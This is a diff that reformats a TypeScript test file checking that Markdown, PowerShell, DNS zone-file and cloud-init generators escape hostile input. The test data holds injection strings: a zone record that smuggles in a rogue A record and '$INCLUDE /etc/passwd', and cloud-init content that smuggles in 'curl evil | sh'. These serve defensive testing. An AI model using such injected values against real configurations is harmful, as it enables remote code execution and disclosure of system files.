@@ -58,7 +58,12 @@ describe("Markdown (worksheet.md, checklist.md)", () => {
   });
 
   test("escaping renders back to the same text (CommonMark backslash escapes and entities)", () => {
-    const unescape = (md: string) => md.replace(/\\([!-/:-@[-`{-~])/g, "$1").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
+    const unescape = (md: string) =>
+      md
+        .replace(/\\([!-/:-@[-`{-~])/g, "$1")
+        .replace(/&lt;/g, "<")
+        .replace(/&gt;/g, ">")
+        .replace(/&amp;/g, "&");
     expect(unescape(markdownText(HOSTILE_TITLE))).toBe(HOSTILE_TITLE);
     expect(unescape(markdownParagraphs(HOSTILE_DESCRIPTION))).toBe(HOSTILE_DESCRIPTION);
   });
@@ -80,7 +85,10 @@ test("PowerShell checklist: the title cannot close the help block", () => {
 test("zone files: a comment with line breaks stays one comment line", () => {
   const plan = hostilePlan();
   const record = plan.dnsRecords.find((r) => r.view === "external" && r.type === "A")!;
-  const tampered = { ...plan, dnsRecords: plan.dnsRecords.map((r) => (r === record ? { ...r, purpose: "x\nevil.contoso.com. 60 IN A 6.6.6.6\r$INCLUDE /etc/passwd\u2028; y" } : r)) };
+  const tampered = {
+    ...plan,
+    dnsRecords: plan.dnsRecords.map((r) => (r === record ? { ...r, purpose: "x\nevil.contoso.com. 60 IN A 6.6.6.6\r$INCLUDE /etc/passwd\u2028; y" } : r)),
+  };
   const zone = zoneFiles(tampered).find((z) => z.view === "external" && z.zone === record.zone)!;
   const lines = zone.content.split("\n");
   expect(lines.filter((l) => /evil|INCLUDE/.test(l)).every((l) => l.startsWith("; "))).toBe(true);
@@ -93,5 +101,7 @@ test("cloud-init: file content cannot end its literal block (YAML 1.1 line break
   const doc = parse(cloudConfig({ files: [{ path: "/etc/x.conf", content }], runcmd: ["true"] }), { version: "1.1" });
   expect(Object.keys(doc).sort()).toEqual(["package_update", "runcmd", "write_files"]);
   expect(doc.runcmd).toEqual(["true"]);
-  expect(doc.write_files).toEqual([{ path: "/etc/x.conf", permissions: "0644", content: "line one\nruncmd:\n  - curl evil | sh\nbootcmd: [reboot]\npackages: [nmap]\nlast\n" }]);
+  expect(doc.write_files).toEqual([
+    { path: "/etc/x.conf", permissions: "0644", content: "line one\nruncmd:\n  - curl evil | sh\nbootcmd: [reboot]\npackages: [nmap]\nlast\n" },
+  ]);
 });
